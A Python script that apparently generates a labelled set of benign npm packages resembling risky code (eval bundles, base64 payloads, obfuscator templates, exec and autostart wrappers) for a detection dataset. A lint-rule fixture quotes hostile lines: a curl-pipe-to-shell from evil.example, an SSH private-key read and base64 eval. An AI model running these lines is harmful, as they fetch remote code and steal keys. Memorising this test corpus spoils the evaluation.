"""Benign npm packages that compile code, carry packed data, run programs or touch the system for their user."""

import json

import kit
import shapes
from kit import Dice
from packages import Writer


def compiled(w):
    w.npm("plate-templates", "3.1.10", "template-engine", "compiles templates with the function constructor", r'''
exports.compile = function (template, opts = {}) {
  let src = "let __out = '';\nfunction __append(s) { if (s !== undefined && s !== null) __out += s }\nwith (locals || {}) {\n";
  for (const part of template.split(/(<%[=-]?[\s\S]*?%>)/)) {
    if (part.startsWith('<%=')) src += `__append(escapeFn(${part.slice(3, -2)}));\n`;
    else if (part.startsWith('<%-')) src += `__append(${part.slice(3, -2)});\n`;
    else if (part.startsWith('<%')) src += part.slice(2, -2) + '\n';
    else src += `__append(${JSON.stringify(part)});\n`;
  }
  src += '}\nreturn __out;';
  const fn = new Function(opts.localsName || 'locals, escapeFn', src);
  return (data) => fn(data, (s) => String(s).replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`));
};
''')
    w.npm("schema-jit", "8.12.0", "code-generation", "generates validators", r'''
exports.compile = (schema) => {
  const lines = ['"use strict";', 'const errors = [];'];
  for (const [key, rule] of Object.entries(schema.properties || {})) lines.push(`if (typeof data[${JSON.stringify(key)}] !== ${JSON.stringify(rule.type)}) errors.push({ path: ${JSON.stringify('/' + key)} });`);
  lines.push('validate.errors = errors; return !errors.length;');
  const make = new Function('self', `return function validate(data) { ${lines.join('\n')} }`);
  return make({ schema });
};
''')
    w.npm("all-this", "1.0.4", "polyfill", "finds the global object", '''
var g = (function () { return this; })() || (typeof globalThis !== 'undefined' && globalThis) || Function('return this')() || (0, eval)('this');
module.exports = g;
''')
    w.npm("require-text", "3.0.0", "code-generation", "compiles a string that its caller gives into a module", '''
const Module = require('module');
const path = require('path');
module.exports = function requireFromString(code, filename = '', opts = {}) {
  if (typeof code !== 'string') throw new Error('code must be a string, not ' + typeof code);
  const m = new Module(filename, module.parent);
  m.filename = filename;
  m.paths = [].concat(opts.prependPaths || []).concat(Module._nodeModulePaths(path.dirname(filename)));
  m._compile(code, filename);
  return m.exports;
};
''')
    w.npm("require-hooks", "4.0.6", "code-generation", "lets a compiler see modules as they are loaded", '''
const Module = require('module');
exports.addHook = (hook, { exts = ['.js'], matcher = () => true } = {}) => {
  const old = {};
  for (const ext of exts) {
    old[ext] = Module._extensions[ext] || Module._extensions['.js'];
    Module._extensions[ext] = function (mod, filename) {
      if (matcher(filename)) { const compile = mod._compile; mod._compile = function (code, name) { mod._compile = compile; compile.call(mod, hook(code, name), name); }; }
      old[ext](mod, filename);
    };
  }
  return () => exts.forEach((e) => { Module._extensions[e] = old[e]; });
};
''')
    w.npm("sandbox-run", "2.4.0", "code-generation", "runs code in a context with a time limit", '''
const vm = require('vm');
module.exports = (code, context = {}, timeout = 1000) => new vm.Script(code, { filename: 'sandbox.js' }).runInNewContext({ ...context, console }, { timeout });
''')
    modules = "".join(r'''/***/ "./src/%s.js":
/***/ ((module, exports, require) => {

eval("__webpack_require__.r(exports);\n/* harmony default export */ exports.%s = () => '%s';\n\n//# sourceURL=webpack://lib/./src/%s.js?");

/***/ }),
''' % (x, x, x, x) for x in kit.WORDS[:80])
    w.npm("dev-bundle", "0.4.0", "bundle", "a bundle made for development: each module in an eval with a source address", {"dist/main.js": '''/*
 * ATTENTION: The "eval" devtool has been used (maybe by default in mode: "development").
 */
(() => {
var __webpack_modules__ = ({
%s});
})();
''' % modules, "index.js": "module.exports = require('./dist/main.js');\n"})
    w.npm("query-umd", "3.7.1", "bundle", "a minified UMD build of 250 kB", {"dist/query.min.js": shapes.bundle("query", 250_000), "index.js": "module.exports = require('./dist/query.min.js');\n"})
    w.npm("wasm-inline", "0.9.0", "packed-data", "a WebAssembly module in base64", '''
const B = '%s';
module.exports = async () => (await WebAssembly.instantiate(Uint8Array.from(atob(B), (c) => c.charCodeAt(0)))).instance.exports;
''' % kit.b64(shapes.wasm(Dice("wi").raw(30_000))))
    w.npm("worker-inline", "2.0.0", "packed-data", "a worker in base64 that decodes pictures", "\nconst src = '%s';\nmodule.exports = () => new Worker(URL.createObjectURL(new Blob([atob(src)], { type: 'text/javascript' })));\n" % kit.b64('''self.onmessage = function (e) {
  const d = e.data, out = new Uint8ClampedArray(d.length);
  for (let i = 0; i < d.length; i += 4) { const g = 0.3 * d[i] + 0.59 * d[i + 1] + 0.11 * d[i + 2]; out[i] = out[i + 1] = out[i + 2] = g; out[i + 3] = d[i + 3]; }
  self.postMessage(out, [out.buffer]);
};
''' * 4))
    w.npm("fonts-inline", "5.0.1", "packed-data", "fonts in base64", {"roboto.css": "@font-face{font-family:Roboto;src:url(data:font/woff2;base64,%s) format('woff2')}\n" % kit.b64(b"wOF2" + Dice("fo").raw(60_000)), "icons.js": "module.exports='data:application/font-woff;base64,%s';\n" % kit.b64(b"wOFF" + Dice("fi").raw(20_000))})
    w.npm("emoji-table", "10.3.0", "unicode-data", "emoji with joiners and variation selectors", {"index.js": "module.exports = %s;\n" % json.dumps({w_: chr(0x1F300 + i) + ("\ufe0f" if i % 3 else "\u200d" + chr(0x1F3FB + i % 5)) for i, w_ in enumerate(kit.WORDS)}, ensure_ascii=False), "regex.js": "module.exports = () => /[\\u{1F1E6}-\\u{1F1FF}]{2}|\\p{Emoji}\\uFE0F?\\u20E3|(?:\\u200D\\p{Emoji})*|[\\u{E0020}-\\u{E007F}]/gu;\n"})
    w.npm("locale-bidi", "4.2.0", "unicode-data", "translations with direction marks", {"locale/ar.json": json.dumps({"total": "\u200fالمجموع: {n}\u200f", "file": "\u2067{name}\u2069 محفوظ"}, ensure_ascii=False), "locale/he.json": json.dumps({"total": "\u200fסה\u05f4כ \u2066{n}\u2069", "phone": "\u202a+972 3 000\u202c"}, ensure_ascii=False), "index.js": "// FSI and PDI keep names of other directions apart: \\u2068 and \\u2069\nexports.isolate = (s) => '\\u2068' + s + '\\u2069';\n"})
    w.npm("confusable-map", "1.3.0", "unicode-data", "a table of look-alike letters and a remover of invisible ones", {"map.json": json.dumps({"\u0430": "a", "\u043e": "o", "\u0440": "p", "\u0441": "c", "\u0435": "e", "\u03bf": "o", "\u1d0f": "o", "\uff41": "a"}, ensure_ascii=False), "index.js": r'''const map = require('./map.json');
exports.skeleton = (s) => [...s.normalize('NFD')].map((c) => map[c] || c).join('');
exports.strip = (s) => s.replace(/[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufe00-\ufe0f\ufeff]|\udb40[\udd00-\uddef]/g, '');
'''})
    tables = "".join("const T%d = [%s];\n" % (i, ",".join("0x" + Dice("aes%d" % i).hex(8) for _ in range(256))) for i in range(4))
    w.npm("aes-tables", "3.1.2", "crypto-tables", "a cipher's tables and exclusive-or loops", {"lib/aes.js": ''''use strict';
%smodule.exports = function xor(a, b) { const o = Buffer.allocUnsafe(a.length); for (let i = 0; i < a.length; i++) o[i] = a[i] ^ b[i %% b.length]; return o; };
module.exports.T = [T0, T1, T2, T3];
''' % tables, "index.js": "module.exports = require('./lib/aes');\n"})
    w.npm("base64-codec", "1.5.1", "codec", "base64, hex and rot13", '''
const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
exports.decode = (s) => { let bits = 0, n = 0, out = ''; for (const c of s.replace(/=+$/, '')) { bits = (bits << 6) | A.indexOf(c); n += 6; if (n >= 8) { n -= 8; out += String.fromCharCode((bits >> n) & 255); } } return out; };
exports.hex = (s) => s.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');
exports.rot13 = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
''')
    w.npm("code-scrambler", "4.1.0", "security-tool", "an obfuscator: its templates look like what it makes", {"lib/templates.js": '''module.exports.rotate = `
(function (array, times) {
  const push = function (count) { while (--count) { array['push'](array['shift']()); } };
  push(++times);
})({array}, {times});
`;
module.exports.decode = `const {name} = function (i) { i = i - 0x0; return {array}[i]; };`;
''', "index.js": "const t = require('./lib/templates');\nexports.scramble = (src, array) => t.rotate.replace('{array}', array) + src;\n"})
    w.npm("lint-plugin-safety", "2.1.0", "security-tool", "rules and fixtures that quote dangerous code", {"rules/no-eval.js": "module.exports = { meta: { docs: { description: 'no eval()' } }, create: (ctx) => ({ CallExpression(n) { if (n.callee.name === 'eval') ctx.report(n, 'eval with expression'); } }) };\n", "test/fixtures.js": '''// never run: parsed by the tests
module.exports.invalid = [
  "eval(Buffer.from(x, 'base64').toString())",
  "require('child_process').exec('curl http://evil.example/x | sh')",
  "fs.readFileSync(os.homedir() + '/.ssh/id_rsa')",
  "new Function(atob(payload))()",
];
''', "docs/rules.md": "# Rules\n\nThe Shai-Hulud worm ran `trufflehog` and published with stolen tokens; the rule `no-hook-publish` warns of that.\n"})


def programs(w):
    w.npm("spawn-cross", "7.0.3", "exec-wrapper", "starts programs on every system", r'''
const cp = require('child_process');
module.exports = (command, args, options = {}) => {
  if (process.platform === 'win32' && !/\.(?:com|exe)$/i.test(command)) {
    const line = [command, ...args].map((a) => `"${String(a).replace(/"/g, '\\"')}"`).join(' ');
    return cp.spawn(process.env.comspec || 'cmd.exe', ['/d', '/s', '/c', `"${line}"`], { ...options, windowsVerbatimArguments: true });
  }
  return cp.spawn(command, args, options);
};
''')
    w.npm("shell-verbs", "0.8.5", "exec-wrapper", "shell commands as functions, `rm -rf` and `exec` among them", {"src/exec.js": '''const { execSync, exec } = require('child_process');
module.exports = (cmd, options = {}, callback) => {
  if (options.async || callback) return exec(cmd, { shell: options.shell || true, env: process.env, cwd: process.cwd() }, callback);
  try { return { code: 0, stdout: execSync(cmd, { stdio: options.silent ? 'pipe' : 'inherit' }) }; } catch (e) { return { code: e.status }; }
};
''', "src/rm.js": "const fs = require('fs');\nmodule.exports = (options, files) => { for (const f of files) fs.rmSync(f, { recursive: options.includes('r'), force: options.includes('f') }); };\n", "src/chmod.js": "exports.chmod = (mode, file) => require('fs').chmodSync(file, mode);\n"})
    w.npm("open-any", "10.1.0", "exec-wrapper", "opens an address in the user's program, on Windows through an encoded command", r'''
const { spawn } = require('child_process');
module.exports = (target, { app, wait = false } = {}) => {
  let command, args = [];
  if (process.platform === 'darwin') { command = 'open'; if (app) args.push('-a', app); args.push(target); }
  else if (process.platform === 'win32') {
    command = `${process.env.SYSTEMROOT || 'C:\\Windows'}\\System32\\WindowsPowerShell\\v1.0\\powershell`;
    const encoded = Buffer.from(`Start "${app || target}"${app ? ` -ArgumentList "${target}"` : ''}${wait ? ' -Wait' : ''}`, 'utf16le').toString('base64');
    args.push('-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-EncodedCommand', encoded);
  } else { command = app || 'xdg-open'; args.push(target); }
  const child = spawn(command, args, { stdio: 'ignore', detached: !wait });
  child.unref();
  return child;
};
''')
    w.npm("editor-launch", "2.6.1", "exec-wrapper", "opens a file in the user's editor", '''
const { spawn, execSync } = require('child_process');
function guess() {
  if (process.env.LAUNCH_EDITOR) return process.env.LAUNCH_EDITOR;
  const out = execSync(process.platform === 'darwin' ? 'ps ax -o comm=' : 'ps x --no-heading -o comm --sort=comm', { stdio: ['pipe', 'pipe', 'ignore'] }).toString();
  return ['code', 'vim', 'emacs', 'idea', 'subl'].find((e) => out.includes(e)) || process.env.VISUAL || process.env.EDITOR;
}
module.exports = (file, line = 1) => spawn(guess(), ['-g', `${file}:${line}`], { stdio: 'inherit' });
''')
    w.npm("clip-copy", "4.0.0", "clipboard", "reads and writes the clipboard when asked", '''
const { execFileSync } = require('child_process');
const tools = { darwin: [['pbcopy'], ['pbpaste']], linux: [['xsel', '--clipboard', '--input'], ['xsel', '--clipboard', '--output']], win32: [['clip'], ['powershell', '-command', 'Get-Clipboard']] };
const [put, get] = tools[process.platform] || tools.linux;
exports.writeSync = (text) => { execFileSync(put[0], put.slice(1), { input: text }); };
exports.readSync = () => execFileSync(get[0], get.slice(1)).toString();
''')
    w.npm("create-web-starter", "13.0.0", "scaffolder", "makes a project: copies templates, installs packages, starts a repository", {"index.js": r'''#!/usr/bin/env node
'use strict';
const { execSync, spawnSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const root = path.resolve(process.argv[2] || 'my-app');
fs.cpSync(path.join(__dirname, 'template'), root, { recursive: true });
const agent = /^yarn/.test(process.env.npm_config_user_agent || '') ? 'yarn' : 'npm';
spawnSync(agent, ['install'], { cwd: root, stdio: 'inherit', env: { ...process.env, NODE_ENV: 'development', ADBLOCK: '1' } });
try { execSync('git init && git add -A && git commit -m "Initial commit"', { cwd: root, stdio: 'ignore' }); } catch { fs.rmSync(path.join(root, '.git'), { recursive: true, force: true }); }
console.log(`Created ${root}`);
''', "template/package.json": kit.js({"private": True, "scripts": {"dev": "vite"}}), "template/.github/workflows/ci.yml": '''on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci && npm test
        env:
          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
''', "template/.npmrc": "engine-strict=true\n", "template/AGENTS.md": "# For assistants\n\nRun `npm test` before you finish. Use tabs.\n"}, {"bin": {"create-web-starter": "index.js"}})
    w.npm("release-flow", "17.2.1", "publisher", "publishes the user's own package when the user says so", {"lib/npm.js": r'''
'use strict';
const { execFileSync } = require('child_process');
const run = (c, ...a) => execFileSync(c, a, { encoding: 'utf8' }).trim();
module.exports = async ({ increment = 'patch', otp, dryRun }) => {
  const user = run('npm', 'whoami');
  if (!run('npm', 'access', 'list', 'collaborators').includes(user)) throw new Error(`User ${user} is not a collaborator`);
  run('npm', 'version', increment, '--no-git-tag-version');
  if (!dryRun) {
    execFileSync('npm', ['publish', '.', ...(otp ? ['--otp', otp] : [])], { stdio: 'inherit' });
    run('git', 'commit', '-am', 'chore: release');
    run('git', 'push', '--follow-tags');
    if (process.env.GITHUB_TOKEN) await fetch('https://api.github.com/repos/' + process.env.REPO + '/releases', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: '{}' });
  }
};
''', "index.js": "module.exports = require('./lib/npm');\n"}, {"bin": {"release-flow": "index.js"}})
    w.npm("boot-start", "5.0.6", "autostart", "adds the calling application to the system's start when the application asks", r'''
const fs = require('fs'), os = require('os'), path = require('path');
module.exports = class AutoLaunch {
  constructor({ name, path: file }) { if (!name) throw new Error('You must specify a name'); this.name = name; this.file = file || process.execPath; }
  enable() {
    if (process.platform === 'linux') { const d = path.join(os.homedir(), '.config/autostart'); fs.mkdirSync(d, { recursive: true }); fs.writeFileSync(path.join(d, this.name + '.desktop'), `[Desktop Entry]\nType=Application\nName=${this.name}\nExec=${this.file}\n`); }
    else if (process.platform === 'darwin') fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents', this.name + '.plist'), `<plist><dict><key>Label</key><string>${this.name}</string><key>RunAtLoad</key><true/></dict></plist>`);
    else new (require('winreg'))({ hive: 'HKCU', key: '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' }).set(this.name, 'REG_SZ', this.file, () => {});
  }
};
''')
    w.npm("process-keeper", "5.3.1", "autostart", "a process manager that can write a service file when told `startup`", {"lib/startup.js": r'''const fs = require('fs');
const { execSync } = require('child_process');
const unit = (user) => `[Unit]\nDescription=process manager\nAfter=network.target\n\n[Service]\nUser=${user}\nExecStart=${process.execPath} ${__dirname}/../bin/keeper resurrect\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n`;
module.exports = ({ user = process.env.USER, print = true }) => {
  if (process.getuid() !== 0) { console.log('To setup the startup script, copy/paste the following command:\n sudo keeper startup -u ' + user); return; }
  fs.writeFileSync('/etc/systemd/system/keeper.service', unit(user));
  execSync('systemctl enable keeper', { stdio: print ? 'inherit' : 'ignore' });
};
''', "bin/keeper": "#!/usr/bin/env node\nif (process.argv[2] === 'startup') require('../lib/startup')({});\n"}, {"bin": {"keeper": "bin/keeper"}})
    w.npm("cron-parse", "4.9.0", "scheduler", "reads cron expressions", r'''
const FIELDS = ['minute', 'hour', 'dayOfMonth', 'month', 'dayOfWeek'];
exports.parse = (text) => Object.fromEntries(text.trim().split(/\s+/).map((f, i) => [FIELDS[i], f]));
exports.everyTenMinutes = '*/10 * * * *';
exports.predefined = { '@hourly': '0 * * * *', '@reboot': null, '@weekly': '0 0 * * 0' };
''')
    w.npm("worker-pool-stratum", "2.5.0", "words-only", "a pool of workers; mining, pools and strata of data sets are only words here", '''
const os = require('os');
const { Worker } = require('worker_threads');
class Pool {
  constructor({ size = os.cpus().length, script }) { this.miners = Array.from({ length: size }, () => new Worker(script)); this.queue = []; }
  submit(job) { return new Promise((ok) => { const m = this.miners[this.queue.length % this.miners.length]; this.queue.push(job); m.once('message', ok); m.postMessage(job); }); }
}
// data mining by stratum: each stratum is one worker's share
module.exports = { Pool, hashrate: (n, ms) => n / ms };
''')
    w.npm("chrome-find", "1.1.2", "browser-locator", "finds installed browsers and their profile folders for debugging", '''
const { existsSync } = require('fs');
const { homedir } = require('os');
const { join } = require('path');
const { execSync } = require('child_process');
const DARWIN = '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome';
exports.executable = () => process.env.CHROME_PATH || (process.platform === 'darwin' && existsSync(DARWIN) ? DARWIN : execSync('which google-chrome || which chromium').toString().trim());
exports.userDataDir = () => ({ darwin: join(homedir(), 'Library/Application Support/Google/Chrome'), win32: join(process.env.LOCALAPPDATA || '', 'Google/Chrome/User Data'), linux: join(homedir(), '.config/google-chrome') })[process.platform];
exports.launch = (args = []) => require('child_process').spawn(exports.executable(), ['--remote-debugging-port=0', `--user-data-dir=${require('fs').mkdtempSync('/tmp/chrome-')}`, ...args]);
''')
    w.npm("wallet-provider", "2.17.0", "wallet-library", "connects a page to the user's wallet", {"index.js": ''''use strict';
class Provider {
  constructor(inner = window.ethereum) { this.inner = inner; }
  request({ method, params = [] }) { return this.inner.request({ method, params }); }
  async send(tx) { const [from] = await this.request({ method: 'eth_requestAccounts' }); return this.request({ method: 'eth_sendTransaction', params: [{ from, ...tx }] }); }
}
const isAddress = (a) => /^0x[0-9a-fA-F]{40}$/.test(a);
module.exports = { Provider, isAddress, ZERO: '0x' + '0'.repeat(40) };
'''})
    w.npm("mcp-tool-server", "1.2.0", "assistant-tool", "a library for tool servers and its documentation of settings", {"index.js": r''''use strict';
const readline = require('readline');
module.exports = class Server {
  constructor(info) { this.info = info; this.tools = new Map(); }
  tool(name, fn) { this.tools.set(name, fn); return this; }
  listen() { readline.createInterface({ input: process.stdin }).on('line', async (l) => { const m = JSON.parse(l); const r = m.method === 'tools/call' ? await this.tools.get(m.params.name)(m.params.arguments) : this.info; process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id: m.id, result: r }) + '\n'); }); }
};
''', "README.md": '''# mcp-tool-server

Add to your `mcp.json`:

```json
{ "mcpServers": { "mine": { "command": "node", "args": ["server.js"] } } }
```
'''})
    w.npm("icon-set-max", "5.5.0", "packed-data", "more than a hundred small files", dict([("index.js", "module.exports = (n) => require('./svg/' + n + '.js');\n")] + [("svg/%s%d.js" % (x, i), "module.exports = '<svg viewBox=\"0 0 24 24\"><path d=\"M%d %dh%dv%dz\"/></svg>';\n" % (i, i % 7, i % 11, i % 5)) for i, x in enumerate(kit.WORDS[:140])]))


def build(items):
    writer = Writer(items, "good")
    compiled(writer)
    programs(writer)
